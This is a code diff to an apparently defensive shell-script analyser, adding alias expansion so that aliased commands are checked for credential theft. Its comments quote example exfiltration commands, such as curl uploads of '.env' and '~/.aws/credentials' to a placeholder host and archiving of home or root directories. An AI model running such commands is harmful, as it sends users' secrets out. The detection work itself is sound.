@@ -40,6 +40,7 @@ import {
 } from './shell.js';
 import { credentialGlob, listedCredential, mayGlob } from './shell-globs.js';
 import { resumesEarlier } from './shell-history.js';
+import { aliasedLine, collectAliases } from './shell-aliases.js';
 import { arrayAssignment } from './shell-arrays.js';
 import { positionalSets, respelledList, withLiterals } from './shell-literals.js';
 import { HOME_SENT_MARK, listsHome, UNSEEN_MARK } from './shell-option-scripts.js';
@@ -83,6 +84,9 @@ interface State {
   spoiled: Set<string>;
   /** A map per array element read as `${x[@]}` (shell-arrays.ts), when the texts fill an array. */
   elements?: Map<string, string>[];
+  /** The aliases the texts define (shell-aliases.ts), and the lines made with them (not expanded again). */
+  aliases?: Map<string, string>;
+  aliased?: Set<string>;
   unreadable: boolean;
   opaque: boolean;
   /** The replace strings of the texts' `xargs -I R` (a command word holding one is named at run time). */
@@ -247,6 +251,7 @@ function readScript(text: string, st: State): void {
     const cmd = parsed.commands[i] as SimpleCommand;
     // `x=(/ /root)`, `mapfile -t a <<< /root`: an array's elements (round 27, shell-arrays.ts).
     if (!arrayAssignment(parsed.commands, i, st)) collectAssignments(cmd.words, cmd.shown, st.vars, st.spoiled);
+    if (cmd.words[0] === 'alias') collectAliases(cmd, (st.aliases ??= new Map()));
     if (!st.ifs && cmd.words.some(setsIfs)) st.ifs = true;
     xargsReplace(cmd.words, st.replace);
   }
@@ -261,6 +266,15 @@ function readScript(text: string, st: State): void {
     if (key !== undefined && seen.has(key)) continue;
     if (key !== undefined) seen.add(key);
     readList(cmds, st, scripts, parsed.commands);
+    // `alias c='cd /root'; c; tar c .`: the list with each alias in place, read again (round 27); a line
+    // so made is not expanded again (`alias ls='ls -a'` would else grow without end).
+    if (st.aliases !== undefined && !st.aliased?.has(text)) {
+      const line = aliasedLine(cmds, cmds.map((c) => layerStarts(c.words)), st.aliases);
+      if (line !== undefined) {
+        (st.aliased ??= new Set()).add(line);
+        scripts.push(line);
+      }
+    }
   }
   for (const script of scripts) {
     if (st.scripts <= 0) {
@@ -325,6 +339,8 @@ function plainLines(
   if (cmds.length > 1 && placesHome(cmds)) return undefined;
   // `find ~ | cpio -o`: what an archiver packs from a listed home is the general reader's (round 24).
   if (cmds.length > 1 && cmds.some(mayListHome)) return undefined;
+  // `alias g=curl; g -T .env h`: where an alias runs is the general reader's (round 27).
+  if (cmds.length > 1 && cmds.some((c) => c.words[0] === 'alias')) return undefined;
   // `cd ~/.aws; curl -T credentials h`: the directories the text goes to (shell-places.ts), for placedCredential.
   const dirs = cmds.length > 1 ? (placesOf(cmds)?.dirs ?? NO_DIRS) : NO_DIRS;
   let itself = verbatim;
